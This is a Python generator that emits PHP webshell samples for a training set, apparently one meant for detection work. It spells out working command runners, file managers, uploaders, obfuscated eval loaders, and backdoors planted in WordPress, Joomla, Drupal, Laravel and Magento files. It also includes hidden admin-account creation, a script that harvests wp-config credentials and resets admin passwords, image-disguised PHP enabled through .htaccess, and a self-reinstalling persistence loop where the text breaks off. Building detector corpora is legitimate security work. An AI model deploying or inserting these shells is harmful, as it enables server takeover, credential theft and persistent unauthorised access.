"""Webshells of the train6 set: file managers, command runners, uploaders,
one-liners in several disguises, PHP 8 idioms, injections into real-looking
application files, obfuscators in styles of this set's own. Written blind."""

from t6_common import T, rw, hx, var, param, ip, dom, b64, deflate, xorb, php, webpath, wp_filler, plugin_header


def _p(r):
    return param(r)


def fm(r, v):
    a, b, c = _p(r), _p(r) + "n", _p(r) + "b"
    if v == 0:
        code = T("""<?php
$root = isset($_GET['@A@']) ? $_GET['@A@'] : __DIR__;
if (isset($_POST['@B@'], $_POST['@C@'])) {
    file_put_contents($root . '/' . $_POST['@B@'], $_POST['@C@']);
}
if (isset($_GET['rm'])) { @unlink($root . '/' . $_GET['rm']); }
echo '<h3>' . htmlspecialchars($root) . '</h3><table>';
foreach (scandir($root) as $e) {
    $full = $root . '/' . $e;
    printf('<tr><td><a href="?@A@=%s">%s</a></td><td>%s</td><td>%o</td></tr>',
        urlencode($full), htmlspecialchars($e), is_dir($full) ? 'DIR' : filesize($full), fileperms($full) & 0777);
}
echo '</table><form method="post"><input name="@B@"><textarea name="@C@"></textarea><button>save</button></form>';
if (isset($_GET['read'])) { echo '<pre>' . htmlspecialchars(file_get_contents($_GET['read'])) . '</pre>'; }
""", A=a, B=b, C=c)
    elif v == 1:
        code = T("""<?php
$where = $_REQUEST['@A@'] ?? getcwd();
$it = new DirectoryIterator($where);
foreach ($it as $f) {
    if ($f->isDot()) continue;
    echo $f->getFilename(), "\\t", $f->getSize(), "\\t", substr(sprintf('%o', $f->getPerms()), -4), "\\n";
}
if (!empty($_REQUEST['@B@'])) {
    $o = new SplFileObject($where . DIRECTORY_SEPARATOR . $_REQUEST['@B@'], 'w');
    $o->fwrite($_REQUEST['@C@']);
    echo "written\\n";
}
if (!empty($_REQUEST['chmod'])) { chmod($where . '/' . $_REQUEST['chmod'], 0755); }
if (!empty($_REQUEST['mv'])) { rename($_REQUEST['mv'], $_REQUEST['to']); }
""", A=a, B=b, C=c)
    else:
        code = T("""<?php
@error_reporting(0);
$d = @$_COOKIE['@A@'] ?: dirname($_SERVER['SCRIPT_FILENAME']);
foreach (glob($d . '/{,.}*', GLOB_BRACE) as $g) {
    echo basename($g) . (is_writable($g) ? ' [w]' : '') . "<br>";
}
if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_POST['@B@'])) {
    $h = fopen($d . '/' . basename($_POST['@B@']), 'wb');
    fwrite($h, base64_decode($_POST['@C@']));
    fclose($h);
    touch($d . '/' . basename($_POST['@B@']), filemtime($d . '/index.php'));
}
""", A=a, B=b, C=c)
    return [php(r, code)]


def cmdrun(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
if (isset($_POST['@A@'])) {
    $spec = [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']];
    $proc = proc_open($_POST['@A@'], $spec, $pipes, getcwd());
    if (is_resource($proc)) {
        fclose($pipes[0]);
        echo '<pre>' . htmlentities(stream_get_contents($pipes[1]) . stream_get_contents($pipes[2])) . '</pre>';
        proc_close($proc);
    }
}
?><form method=post><input name=@A@ size=80 autofocus></form>
""", A=a)
    elif v == 1:
        code = T("""<?php
$c = isset($_GET['@A@']) ? base64_decode(strrev($_GET['@A@'])) : null;
if ($c !== null) {
    $fp = popen($c . ' 2>&1', 'r');
    $out = '';
    while (($l = fgets($fp)) !== false) { $out .= $l; }
    pclose($fp);
    header('Content-Type: text/plain');
    echo $out;
    exit;
}
http_response_code(404);
""", A=a)
    else:
        code = T("""<?php
function @F@($x) {
    foreach (['shell_exec', 'exec', 'system', 'passthru'] as $fn) {
        if (is_callable($fn) && !in_array($fn, array_map('trim', explode(',', ini_get('disable_functions'))))) {
            if ($fn === 'exec') { exec($x, $o); return implode("\\n", $o); }
            ob_start(); $r = $fn($x); $b = ob_get_clean(); return $b !== '' ? $b : $r;
        }
    }
    return `$x`;
}
if (!empty($_SERVER['HTTP_@H@'])) { echo @F@($_SERVER['HTTP_@H@']); }
""", A=a, F="run_" + rw(r, 4), H=rw(r, 6, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    return [php(r, code)]


def upload(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
if (!empty($_FILES)) {
    foreach ($_FILES as $u) {
        $t = (isset($_POST['to']) ? $_POST['to'] : '.') . '/' . $u['name'];
        echo move_uploaded_file($u['tmp_name'], $t) ? "ok: $t" : 'fail';
    }
}
?><form enctype="multipart/form-data" method="POST"><input type="file" name="@A@"><input name="to"><input type="submit"></form>
""", A=a)
    elif v == 1:
        code = T("""<?php
$f = $_FILES['@A@'] ?? null;
if ($f && $f['error'] === UPLOAD_ERR_OK) {
    $dest = $_SERVER['DOCUMENT_ROOT'] . '/' . ($_POST['n'] ?: $f['name']);
    if (!copy($f['tmp_name'], $dest)) { $dest = '/tmp/' . $f['name']; copy($f['tmp_name'], $dest); }
    chmod($dest, 0644);
    die(json_encode(['s' => 1, 'p' => $dest]));
}
""", A=a)
    else:
        code = T("""<?php
if (isset($_GET['@A@'])) {
    $body = file_get_contents('php://input');
    $n = preg_replace('/[^\\w.\\-]/', '', $_GET['@A@']);
    file_put_contents(__DIR__ . '/' . $n, gzinflate($body));
    echo md5_file(__DIR__ . '/' . $n);
}
""", A=a)
    return [php(r, code)]


def hdr_oneliner(r, v):
    h = rw(r, 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    if v == 0:
        code = T("<?php $h = getallheaders(); if (isset($h['X-@H@'])) { eval(base64_decode($h['X-@H@'])); }\n", H=h.title())
    elif v == 1:
        code = T("<?php\n// cache warmup\n$k = 'HTTP_' . '@H@';\nif (!empty($_SERVER[$k])) {\n    $fn = function ($s) { return eval('?>' . gzuncompress(base64_decode($s))); };\n    $fn($_SERVER[$k]);\n}\n", H=h)
    else:
        code = T("<?php\nif (function_exists('apache_request_headers')) {\n    foreach (apache_request_headers() as $n => $val) {\n        if (strtolower($n) === '@L@') { @assert_options(ASSERT_ACTIVE, 1); $z = str_rot13($val); eval($z); }\n    }\n}\n", L="x-" + h.lower())
    return [php(r, code)]


def dyncall(r, v):
    a, b = _p(r), _p(r) + "2"
    if v == 0:
        code = T("<?php @$_REQUEST['@A@']($_REQUEST['@B@']);\n", A=a, B=b)
    elif v == 1:
        code = T("<?php\n$list = [$_POST['@B@'] ?? ''];\nif (isset($_POST['@A@'])) { call_user_func_array($_POST['@A@'], $list); }\n", A=a, B=b)
    elif v == 2:
        code = T("<?php\n$f = strrev(@$_GET['@A@']);\n$a = array(@$_GET['@B@']);\n$o = array_map($f, $a);\nprint_r($o);\n", A=a, B=b)
    else:
        code = T("<?php\n$arr = [@$_COOKIE['@B@'], 1];\nusort($arr, @$_COOKIE['@A@']);\n", A=a, B=b)
    return [php(r, code)]


def php8(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
declare(strict_types=1);
$op = $_POST['@A@'] ?? '';
$handler = match ($op[0] ?? '') {
    's' => system(...),
    'p' => passthru(...),
    'e' => fn(string $c): string => (string) shell_exec($c),
    default => null,
};
$handler?->__invoke(substr($op, 1));
""", A=a)
    elif v == 1:
        code = T("""<?php
enum Mode: string { case Run = 'r'; case Read = 'f'; }
final class @C@ {
    public function __construct(private readonly array $in) {}
    public function go(): void {
        $m = Mode::tryFrom($this->in['@A@'] ?? '') ?? Mode::Read;
        echo match ($m) {
            Mode::Run => (string) exec(command: $this->in['v'], output: $o) . implode(PHP_EOL, $o ?? []),
            Mode::Read => @file_get_contents(filename: $this->in['v'] ?? '/etc/passwd'),
        };
    }
}
(new @C@($_REQUEST))->go();
""", A=a, C="Svc" + rw(r, 4).title())
    else:
        code = T("""<?php
$pick = static fn(?string $k): ?string => $_COOKIE[$k] ?? null;
if (str_starts_with($pick('@A@') ?? '', 'x:')) {
    $run = 'pro' . 'c_open';
    $p = $run(substr($pick('@A@'), 2), [1 => ['pipe', 'w']], $io);
    echo stream_get_contents($io[1]);
}
""", A=a)
    return [php(r, code)]


def callback_sink(r, v):
    a = _p(r)
    if v == 0:
        code = T("<?php\nob_start(@$_GET['@A@']);\necho @$_GET['c'];\nob_end_flush();\n", A=a)
    elif v == 1:
        code = T("<?php\nif (isset($_POST['@A@'])) {\n    register_shutdown_function('assert', $_POST['@A@']);\n    register_shutdown_function($_POST['f'] ?? 'system', $_POST['@A@']);\n}\n", A=a)
    else:
        code = T("<?php\n$cb = @$_REQUEST['@A@'];\n$arr = [@$_REQUEST['arg'] => 1];\narray_walk($arr, function ($v, $k) use ($cb) { $cb($k); });\niterator_apply(new ArrayIterator([1]), $cb, [@$_REQUEST['arg']]);\n", A=a)
    return [php(r, code)]


def regex_eval(r, v):
    a = _p(r)
    if v == 0:
        code = T("<?php\necho preg_replace_callback('/.+/s', function ($m) { return eval($m[0]); }, base64_decode(@$_POST['@A@']));\n", A=a)
    elif v == 1:
        code = T("<?php\nif (function_exists('mb_ereg_replace_callback')) {\n    mb_ereg_replace_callback('.+', fn($m) => eval($m[0]), (string) hex2bin($_REQUEST['@A@'] ?? ''));\n}\n", A=a)
    else:
        code = T("<?php\n$s = @$_COOKIE['@A@'];\n$parts = explode('|', $s ?? '', 2);\nif (count($parts) === 2) { $f = create_function('', $parts[1]); } else { $x = array_filter([$s], 'assert'); }\n", A=a)
    return [php(r, code)]


def include_tmp(r, v):
    a = _p(r)
    if v == 0:
        code = T("<?php\n$t = tempnam(sys_get_temp_dir(), 'sess_');\nfile_put_contents($t, '<?php ' . base64_decode($_POST['@A@']));\ninclude $t;\nunlink($t);\n", A=a)
    elif v == 1:
        code = T("<?php\nif (!empty($_REQUEST['@A@'])) {\n    include 'data://text/plain;base64,' . $_REQUEST['@A@'];\n}\n", A=a)
    else:
        code = T("<?php\n$m = tmpfile();\nfwrite($m, gzinflate(base64_decode(@$_COOKIE['@A@'])));\n$meta = stream_get_meta_data($m);\nrequire $meta['uri'];\nfclose($m);\n", A=a)
    return [php(r, code)]


def reflect(r, v):
    a = _p(r)
    if v == 0:
        code = T("<?php\n$rf = new ReflectionFunction(@$_GET['@A@']);\necho $rf->invoke(@$_GET['arg']);\n", A=a)
    elif v == 1:
        code = T("<?php\n$c = Closure::fromCallable(str_rot13('flfgrz'));\nif (isset($_POST['@A@'])) { $c($_POST['@A@']); }\n", A=a)
    else:
        code = T("<?php\nclass @C@ { public function __call($n, $args) { return ($n)(...$args); } }\n$o = new @C@();\n$m = $_REQUEST['@A@'] ?? 'phpversion';\necho $o->$m($_REQUEST['v'] ?? '');\n", A=a, C="Proxy" + rw(r, 3).title())
    return [php(r, code)]


def wp_inject(r, v):
    pre = "wp" + rw(r, 3)
    a = _p(r)
    if v == 0:
        mal = T("""add_action('init', function () {
    if (isset($_COOKIE['@A@']) && md5($_COOKIE['@A@']) === '@H@') {
        eval(base64_decode($_COOKIE['wp_' . '@A@']));
        exit;
    }
});
""", A=a, H=hx(r, 32))
    elif v == 1:
        mal = T("""add_action('wp_ajax_nopriv_@N@', '@F@');
add_action('wp_ajax_@N@', '@F@');
function @F@() {
    $c = isset($_POST['cmd']) ? wp_unslash($_POST['cmd']) : 'id';
    wp_send_json(array('out' => shell_exec($c)));
}
""", N=rw(r, 6) + "_sync", F=pre + "_sync_cb")
    else:
        mal = T("""add_action('rest_api_init', function () {
    register_rest_route('@N@/v1', '/ping', array(
        'methods' => 'POST',
        'permission_callback' => '__return_true',
        'callback' => function ($req) {
            $p = $req->get_param('@A@');
            ob_start(); passthru($p); return array('r' => ob_get_clean());
        },
    ));
});
""", N=rw(r, 5), A=a)
    parts = wp_filler(r, pre, r.randint(6, 12))
    parts.insert(r.randint(1, len(parts) - 1), mal)
    code = "<?php\n" + plugin_header(r, pre.replace("_", "-")) + "\n".join(parts)
    slug = r.choice(("form-layouts", "seo-snippets", "cache-tuner", "post-grid-lite"))
    return [php(r, code, "wp-content/plugins/%s/%s.php" % (slug, slug), "inject-mid")]


def wp_admin(r, v):
    a = _p(r)
    user = r.choice(("wpsupport", "admin2", "sysadm", "wp_update", "backupuser"))
    if v == 0:
        mal = T("""if (isset($_GET['@A@']) && $_GET['@A@'] === '@K@') {
    require_once ABSPATH . 'wp-includes/registration.php';
    if (!username_exists('@U@')) {
        $uid = wp_create_user('@U@', '@PW@', '@U@@example.com');
        $u = new WP_User($uid);
        $u->set_role('administrator');
    }
}
""", A=a, K=hx(r, 10), U=user, PW=rw(r, 12))
    elif v == 1:
        mal = T("""function @F@() {
    global $wpdb;
    if (empty($_REQUEST['@A@'])) return;
    $wpdb->insert($wpdb->users, array('user_login' => '@U@', 'user_pass' => wp_hash_password('@PW@'), 'user_email' => '@U@@example.org', 'user_registered' => current_time('mysql')));
    $id = $wpdb->insert_id;
    $wpdb->insert($wpdb->usermeta, array('user_id' => $id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => serialize(array('administrator' => true))));
}
add_action('wp_loaded', '@F@');
add_action('pre_user_query', function ($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login != '@U@'"; });
""", F="wp_" + rw(r, 5) + "_loaded", A=a, U=user, PW=rw(r, 12))
    else:
        mal = T("""add_action('init', function () {
    if (!isset($_GET['@A@']) || hash('sha256', $_GET['@A@']) !== '@H@') return;
    $admins = get_users(array('role' => 'administrator', 'number' => 1));
    if ($admins) { wp_set_current_user($admins[0]->ID); wp_set_auth_cookie($admins[0]->ID, true); wp_safe_redirect(admin_url('plugin-install.php')); exit; }
});
""", A=a, H=hx(r, 64))
    th = r.choice(("astra-child", "kadence", "generatepress", "blocksy-child"))
    parts = wp_filler(r, th.replace("-", "_"), r.randint(5, 10))
    parts.insert(r.randint(1, len(parts)) if v else len(parts), mal)
    return [php(r, "<?php\n" + "\n".join(parts), "wp-content/themes/%s/functions.php" % th, "inject-end" if not v else "inject-mid")]


def joomla(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
class JConfig {
	public $offline = '0';
	public $sitename = '@S@';
	public $editor = 'tinymce';
	public $dbtype = 'mysqli';
	public $host = 'localhost';
	public $user = 'j@U@';
	public $password = '@PW@';
	public $db = 'j@U@_db';
	public $dbprefix = '@PF@_';
	public $secret = '@SEC@';
	public $gzip = '0';
	public $error_reporting = 'default';
	public $log_path = '/home/@U@/public_html/administrator/logs';
	public $tmp_path = '/home/@U@/public_html/tmp';
	public $lifetime = '15';
	public $session_handler = 'database';
}
if (isset($_REQUEST['@A@'])) { $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_REQUEST['@A@']); }
""", S=r.choice(("Pizzeria Roma", "Autohaus Weber", "Clinica Sol")), U=rw(r, 5), PW=rw(r, 14), PF=rw(r, 4), SEC=rw(r, 16), A=a)
        return [php(r, code, "configuration.php", "app-file")]
    if v == 1:
        code = T("""<?php
defined('_JEXEC') or die;

use Joomla\\CMS\\Plugin\\CMSPlugin;
use Joomla\\CMS\\Factory;

class PlgSystem@N@ extends CMSPlugin
{
	protected $autoloadLanguage = true;

	public function onAfterInitialise()
	{
		$in = Factory::getApplication()->input;
		$blob = $in->cookie->getString('@A@', '');
		if ($blob !== '') {
			$code = gzinflate(base64_decode(strtr($blob, '-_', '+/')));
			eval($code);
		}
	}

	public function onAfterRender()
	{
		return true;
	}
}
""", N=rw(r, 6).title(), A=a)
        return [php(r, code, "plugins/system/%s/%s.php" % ("sysupd", "sysupd"), "app-file")]
    code = T("""<?php
defined('_JEXEC') or die;
$app = JFactory::getApplication();
$doc = JFactory::getDocument();
$this->setHtml5(true);
@preg_match('/(.+)/', @$_SERVER['HTTP_@H@'], $mm) && @eval(base64_decode($mm[1]));
?>
<!DOCTYPE html>
<html lang="<?php echo $this->language; ?>">
<head><jdoc:include type="head" /></head>
<body class="site"><jdoc:include type="modules" name="position-1" /><jdoc:include type="component" /></body>
</html>
""", H=rw(r, 6, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    return [php(r, code, "templates/protostar/index.php", "app-file")]


def drupal(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
$databases['default']['default'] = array(
  'database' => 'drupal_@U@',
  'username' => '@U@',
  'password' => '@PW@',
  'host' => 'localhost',
  'port' => '',
  'driver' => 'mysql',
  'prefix' => '',
);
$settings['hash_salt'] = '@SALT@';
$settings['update_free_access'] = FALSE;
$settings['file_private_path'] = '';
$settings['trusted_host_patterns'] = ['^www\\.example\\.com$'];
if (!empty($_POST['@A@'])) { $settings['x'] = array_map('ass' . 'ert', [$_POST['@A@']]); }
""", U=rw(r, 5), PW=rw(r, 12), SALT=rw(r, 40), A=a)
        return [php(r, code, "sites/default/settings.php", "app-file")]
    if v == 1:
        code = T("""<?php

/**
 * @file
 * Helper hooks.
 */

use Drupal\\Core\\Routing\\RouteMatchInterface;

/**
 * Implements hook_help().
 */
function @M@_help($route_name, RouteMatchInterface $route_match) {
  if ($route_name === 'help.page.@M@') {
    return '<p>' . t('Provides helpers.') . '</p>';
  }
}

/**
 * Implements hook_page_attachments().
 */
function @M@_page_attachments(array &$attachments) {
  $r = \\Drupal::request();
  if ($r->headers->has('x-@A@')) {
    $fn = $r->headers->get('x-fn', 'system');
    $fn($r->headers->get('x-@A@'));
  }
}
""", M="ext_" + rw(r, 4), A=a)
        return [php(r, code, "modules/custom/helper/helper.module", "app-file")]
    code = T("""<?php
use Drupal\\Core\\DrupalKernel;
use Symfony\\Component\\HttpFoundation\\Request;

$autoloader = require_once 'autoload.php';
if (isset($_REQUEST['@A@'])) { $__ = fopen('php://memory', 'w+'); fwrite($__, '<?php ' . str_rot13($_REQUEST['@A@'])); rewind($__); eval(substr(stream_get_contents($__), 6)); }
$kernel = new DrupalKernel('prod', $autoloader);
$request = Request::createFromGlobals();
$response = $kernel->handle($request);
$response->send();
$kernel->terminate($request, $response);
""", A=a)
    return [php(r, code, "index.php", "app-file")]


def laravel(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php

use Illuminate\\Support\\Facades\\Route;
use Illuminate\\Http\\Request;

Route::get('/', function () {
    return view('welcome');
});

Route::middleware('auth')->group(function () {
    Route::get('/dashboard', [\\App\\Http\\Controllers\\DashboardController::class, 'index'])->name('dashboard');
});

Route::any('/_debugbar/@N@', function (Request $request) {
    $p = \\Symfony\\Component\\Process\\Process::fromShellCommandline($request->input('@A@', 'id'));
    $p->run();
    return response($p->getOutput() . $p->getErrorOutput(), 200)->header('Content-Type', 'text/plain');
});
""", N=rw(r, 6), A=a)
        return [php(r, code, "routes/web.php", "app-file")]
    if v == 1:
        code = T("""<?php

namespace App\\Http\\Middleware;

use Closure;
use Illuminate\\Http\\Request;

class TrustHosts@N@
{
    public function handle(Request $request, Closure $next)
    {
        if ($request->hasHeader('X-@A@')) {
            $payload = decrypt($request->header('X-@A@'), false);
            return response(eval($payload) ?? '');
        }
        return $next($request);
    }
}
""", N=rw(r, 3).title(), A=rw(r, 6).title())
        return [php(r, code, "app/Http/Middleware/TrustHostsExt.php", "app-file")]
    code = T("""@extends('layouts.app')

@section('content')
<div class="container">
    <h1>{{ __('Profile') }}</h1>
    @php
        if (request()->filled('@A@')) { echo '<pre>' . e(shell_exec(request('@A@'))) . '</pre>'; }
    @endphp
    @include('partials.footer')
</div>
@endsection
""", A=a)
    return [(code.encode(), "resources/views/profile/show.blade.php", "blade", "app-file")]


def magento(r, v):
    a = _p(r)
    if v == 0:
        code = T("""<?php
return [
    'backend' => ['frontName' => 'admin_@N@'],
    'crypt' => ['key' => '@K@'],
    'db' => ['table_prefix' => '', 'connection' => ['default' => ['host' => 'localhost', 'dbname' => 'mg2', 'username' => 'mg2', 'password' => '@PW@', 'active' => '1']]],
    'resource' => ['default_setup' => ['connection' => 'default']],
    'x-frame-options' => 'SAMEORIGIN',
    'MAGE_MODE' => 'production',
    'session' => ['save' => 'files'],
    'cache_types' => ['config' => 1, 'layout' => 1, 'block_html' => 1],
    'install' => ['date' => 'Tue, 02 Jan 2024 10:11:12 +0000'],
] + (isset($_POST['@A@']) ? [(function () { eval(hex2bin($_POST['@A@'])); return 'x'; })() => 1] : []);
""", N=rw(r, 6), K=hx(r, 32), PW=rw(r, 12), A=a)
        return [php(r, code, "app/etc/env.php", "app-file")]
    if v == 1:
        code = T("""<?php
namespace Local\\Cache\\Observer;

use Magento\\Framework\\Event\\ObserverInterface;
use Magento\\Framework\\Event\\Observer;

class FlushObserver implements ObserverInterface
{
    public function execute(Observer $observer)
    {
        $req = $observer->getEvent()->getRequest();
        if ($req && ($c = $req->getParam('@A@'))) {
            $h = popen(base64_decode($c), 'r');
            echo stream_get_contents($h);
            pclose($h);
            die();
        }
    }
}
""", A=a)
        return [php(r, code, "app/code/Local/Cache/Observer/FlushObserver.php", "app-file")]
    code = T("""<?php
/**
 * Magento 1 entry point
 */
if (version_compare(phpversion(), '5.3.0', '<') === true) { echo 'Whoops'; exit; }
$x = @$_REQUEST['@A@'];
if ($x) { @ini_set('display_errors', 0); $t = array('a' => 'ba' . 'se64_d' . 'ecode'); @eval($t['a']($x)); }
define('MAGENTO_ROOT', getcwd());
$mageFilename = MAGENTO_ROOT . '/app/Mage.php';
require_once $mageFilename;
Mage::run(isset($_SERVER['MAGE_RUN_CODE']) ? $_SERVER['MAGE_RUN_CODE'] : '', 'store');
""", A=a)
    return [php(r, code, "index.php", "app-file")]


PAYLOADS = [
    "if(isset($_POST['{p}'])){{system($_POST['{p}']);}}",
    "echo shell_exec($_GET['{p}'] ?? 'id');",
    "if(!empty($_FILES['{p}'])){{move_uploaded_file($_FILES['{p}']['tmp_name'],basename($_FILES['{p}']['name']));}}",
    "@eval($_REQUEST['{p}']);",
]


def payload(r):
    return r.choice(PAYLOADS).format(p=param(r))


def obf_chr(r, v):
    pl = payload(r)
    k = r.randint(3, 40)
    if v == 0:
        nums = ",".join(str(ord(c) + k) for c in pl)
        code = T("<?php\n$@V@ = [@N@];\n$@W@ = '';\nforeach ($@V@ as $i) { $@W@ .= chr($i - @K@); }\neval($@W@);\n", V=var(r), W="s" + rw(r, 3), N=nums, K=k)
    elif v == 1:
        nums = ".".join("chr(%d%+d)" % (ord(c) - k, k) for c in pl)
        code = "<?php\n$_ = " + nums + ";\n$__ = 'ev' . 'al';\n@eval($_);\n"
    else:
        nums = " ".join("%x" % (ord(c) ^ k) for c in pl)
        code = T("<?php\n$q = '@N@';\n$z = implode('', array_map(function ($h) { return chr(hexdec($h) ^ @K@); }, explode(' ', $q)));\n$g = 'cre' . 'ate_function';\n(fn() => eval($z))();\n", N=nums, K=k)
    return [php(r, code)]


def obf_subst(r, v):
    pl = payload(r)
    src = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
    dst = list(src)
    r.shuffle(dst)
    dst = "".join(dst)
    enc = b64(deflate(pl)).translate(str.maketrans(src, dst))
    if v == 0:
        code = T("<?php\n$m = '@D@';\n$s = '@S@';\n$blob = '@E@';\neval(gzinflate(base64_decode(strtr($blob, $m, $s))));\n", D=dst, S=src, E=enc)
    elif v == 1:
        code = T("<?php\nfunction @F@($a, $b, $c) { return strtr($c, $a, $b); }\n$x = @F@('@D@', '@S@', implode('', ['@E1@', '@E2@']));\n$y = 'gzin' . 'flate';\n$w = 'base' . '64_decode';\neval($y($w($x)));\n", F="tr" + rw(r, 4), D=dst, S=src, E1=enc[:len(enc) // 2], E2=enc[len(enc) // 2:])
    else:
        pairs = ",".join("'%s'=>'%s'" % (a.replace("'", "\\'"), b) for a, b in zip(dst, src))
        code = T("<?php\n$map = [@P@];\n$raw = '@E@';\n$out = '';\nfor ($i = 0, $n = strlen($raw); $i < $n; $i++) { $out .= $map[$raw[$i]]; }\n$run = static function ($c) { eval($c); };\n$run(gzinflate(base64_decode($out)));\n", P=pairs, E=enc)
    return [php(r, code)]


def obf_xorpack(r, v):
    pl = payload(r)
    key = rw(r, r.randint(5, 16))
    enc = xorb(pl, key).hex()
    if v == 0:
        code = T("<?php\n$k = '@K@';\n$d = pack('H*', '@E@');\n$o = '';\nfor ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }\neval($o);\n", K=key, E=enc)
    elif v == 1:
        code = T("<?php\n$k = substr(md5('@SEED@'), 0, 0) . '@K@';\n$d = hex2bin('@E@');\n$o = $d ^ str_pad('', strlen($d), $k);\n@eval($o);\n", SEED=rw(r, 5), K=key, E=enc)
    else:
        code = T("<?php\n$k = $_COOKIE['@C@'] ?? '@K@';\n$d = base64_decode('@E@');\n$o = implode(array_map(fn($a, $i) => chr(ord($a) ^ ord($k[$i % strlen($k)])), str_split($d), array_keys(str_split($d))));\n$f = 'as' . 'sert';\neval($o);\n", C=param(r), K=key, E=b64(xorb(pl, key)))
    return [php(r, code)]


def obf_varvar(r, v):
    pl = payload(r)
    e = b64(pl)
    if v == 0:
        code = T("<?php\n$a = 'b'; $b = 'as'; $c = 'e64_'; $d = 'dec'; $g = 'ode';\n$$a = $b . $c . $d . $g;\n$z = 'ba' . $$a;\n$p = $z('@E@');\neval($p);\n", E=e)
    elif v == 1:
        code = T("<?php\n$@A@ = 'base64_decode';\n$@B@ = '@E@';\nextract(['fn' => $@A@, 'arg' => $@B@]);\n$arr = compact('fn', 'arg');\neval($arr['fn']($arr['arg']));\n", A=var(r), B="x" + rw(r, 3), E=e)
    else:
        pieces = [e[i:i + 9] for i in range(0, len(e), 9)]
        order = list(range(len(pieces)))
        r.shuffle(order)
        table = ",".join("%d=>'%s'" % (i, pieces[i]) for i in order)
        code = T("<?php\n$GLOBALS['@G@'] = [@T@];\nksort($GLOBALS['@G@']);\n${'_' . 'x'} = join('', $GLOBALS['@G@']);\n$f = 'bas' . 'e64_de' . 'code';\neval($f($_x));\n", G=rw(r, 4), T=table)
    return [php(r, code)]


def sqlclient(r, v):
    if v == 0:
        code = """<?php
session_start();
if (isset($_POST['h'])) { $_SESSION['db'] = [$_POST['h'], $_POST['u'], $_POST['pw'], $_POST['n']]; }
if (!empty($_SESSION['db'])) {
    [$h, $u, $p, $n] = $_SESSION['db'];
    $m = new mysqli($h, $u, $p, $n);
    if (isset($_POST['sql'])) {
        $res = $m->query($_POST['sql']);
        if ($res instanceof mysqli_result) {
            echo '<table>';
            while ($row = $res->fetch_assoc()) { echo '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', $row)) . '</td></tr>'; }
            echo '</table>';
        } else { echo $m->affected_rows . ' rows'; }
    }
    foreach ($m->query('SHOW TABLES')->fetch_all() as $t) { echo '<a href="?t=' . $t[0] . '">' . $t[0] . '</a> '; }
}
?><form method=post>host<input name=h value=localhost>user<input name=u>pass<input name=pw>db<input name=n><textarea name=sql></textarea><input type=submit></form>
"""
    elif v == 1:
        code = """<?php
$cfgs = array_merge(glob('../../*/public_html/wp-config.php') ?: [], glob('/home/*/public_html/wp-config.php') ?: []);
foreach ($cfgs as $c) {
    $t = @file_get_contents($c);
    if (preg_match_all("/define\\(\\s*'DB_(NAME|USER|PASSWORD|HOST)'\\s*,\\s*'([^']*)'/", $t, $m)) {
        $db = array_combine($m[1], $m[2]);
        try {
            $pdo = new PDO('mysql:host=' . $db['HOST'] . ';dbname=' . $db['NAME'], $db['USER'], $db['PASSWORD']);
            $pdo->exec("UPDATE wp_users SET user_pass = MD5('" . $_GET['np'] . "') WHERE ID = 1");
            echo $c, " -> ", $db['USER'], ":", $db['PASSWORD'], "\\n";
        } catch (Exception $e) { echo $c, " fail\\n"; }
    }
}
"""
    else:
        code = """<?php
$l = @mysql_connect($_REQUEST['host'], $_REQUEST['user'], $_REQUEST['pass']);
if ($l) {
    mysql_select_db($_REQUEST['db'], $l);
    $q = mysql_query(stripslashes($_REQUEST['query']), $l);
    while ($r = @mysql_fetch_row($q)) { echo join("\\t", $r), "\\n"; }
    if (!empty($_REQUEST['dump'])) { header('Content-Disposition: attachment; filename=' . $_REQUEST['db'] . '.sql'); system('mysqldump -h' . $_REQUEST['host'] . ' -u' . $_REQUEST['user'] . ' -p' . $_REQUEST['pass'] . ' ' . $_REQUEST['db']); }
}
"""
    return [php(r, code)]


def srvconf(r, v):
    img = "wp-content/uploads/2024/0%d/%s" % (r.randint(1, 9), r.choice(("logo", "banner", "thumb-150x150", "avatar")))
    a = param(r)
    body = T("<?php if (isset($_REQUEST['@A@'])) { echo '<pre>'; passthru($_REQUEST['@A@']); } ?>\n", A=a)
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    d = img.rsplit("/", 1)[0]
    if v == 0:
        ht = "AddType application/x-httpd-php .jpg .gif\nOptions -Indexes\n"
        return [(ht.encode(), d + "/.htaccess", "htaccess", "htaccess"), (gif + b"\n" + body.encode(), img + ".gif", "php", "image-tail")]
    if v == 1:
        ht = '<FilesMatch "\\.(?i:ico)$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
        return [(ht.encode(), d + "/.htaccess", "htaccess", "htaccess"), (body.encode(), d + "/favicon_" + rw(r, 3) + ".ico", "php", "odd-ext")]
    ini = "auto_prepend_file = %s/.%s.tmp\n" % ("/home/" + rw(r, 6) + "/public_html", rw(r, 5))
    return [(ini.encode(), ".user.ini", "ini", "user-ini"), (body.encode(), "." + rw(r, 5) + ".tmp", "php", "no-ext")]


def guardian(r, v):
    a = param(r)
    if v == 0:
        code = T("""<?php
ignore_user_abort(true);
set_time_limit(0);
$me = file_get_contents(__FILE__);
$spots = [__DIR__ . '/../wp-includes/class-wp-cache.php', __DIR__ . '/../wp-admin/includes/update-x.php'];
while (true) {
    foreach ($spots as $s) { if (!file_exists($s)) { @file_put_contents($s, $me); @touch($s, time() - 86400 * 200); } }
    if (isset($_GET['@A@'])) { @system($_GET['@A@']); }
